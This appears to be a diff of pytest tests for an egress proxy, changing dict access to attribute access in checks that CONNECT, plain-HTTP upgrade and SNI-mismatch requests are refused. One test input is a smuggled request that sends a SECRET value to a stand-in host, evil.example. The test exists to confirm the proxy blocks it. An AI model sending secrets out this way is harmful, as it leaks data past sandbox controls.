@@ -123,7 +123,7 @@ def test_an_allowed_proxy_hears_no_request_for_another_name(case: str) -> None:
         return
     refused = run.refused("sni-mismatch")
     assert refused, run.report
-    assert refused[0]["destination"] == PROXY
+    assert refused[0].destination == PROXY
 
 
 @pytest.mark.parametrize("flights", [
@@ -180,7 +180,7 @@ def test_requests_for_the_allowed_name_pass_each_composed_anew() -> None:
     assert b"post /c http/1.1\r\n" in heard
     assert heard.count(b"hello") == 2
     assert b"trailer" not in heard
-    assert run.report.get("refused", []) == []
+    assert run.report.refused == ()
 
 
 def test_a_connect_and_a_plain_http_upgrade_are_refused_and_reported() -> None:
@@ -213,9 +213,9 @@ def test_a_connect_and_a_plain_http_upgrade_are_refused_and_reported() -> None:
     assert run.result == ["", ""]
     assert bytes(proxy.received) == b""
     [refused] = run.refused("sni-mismatch")  # the first detail of the destination's two
-    assert refused["first"] == ("an HTTP request refused (a protocol upgrade on plain HTTP "
-                                "(use TLS: wss://, https://))")
-    assert refused["count"] == 2
+    assert refused.first == ("an HTTP request refused (a protocol upgrade on plain HTTP "
+                             "(use TLS: wss://, https://))")
+    assert refused.count == 2
 
 
 # -- against a real HTTP reader: Python's http.server as a forward proxy is written with it ----
@@ -296,7 +296,7 @@ def test_another_port_of_the_proxys_own_host_must_be_allowed_too() -> None:
         time.sleep(0.2)
         heard = bytes(proxy.received)
     assert b"2222" not in heard
-    assert "a CONNECT" in run.refused("sni-mismatch")[0]["first"]
+    assert "a CONNECT" in run.refused("sni-mismatch")[0].first
 
 
 # -- a third red-team round, against the same reader (and node's, where it is installed) -------
@@ -373,7 +373,7 @@ def test_a_connect_to_the_proxy_itself_is_refused() -> None:
          b"GET http://evil.example/?k=SECRET HTTP/1.1\r\nHost: evil.example\r\n\r\n"],
         keep_reading_after_connect=True)
     assert heard == []
-    assert "a CONNECT" in run.refused("sni-mismatch")[0]["first"]
+    assert "a CONNECT" in run.refused("sni-mismatch")[0].first
 
 
 def test_a_byte_over_0x7f_in_a_target_is_refused_and_reported() -> None:
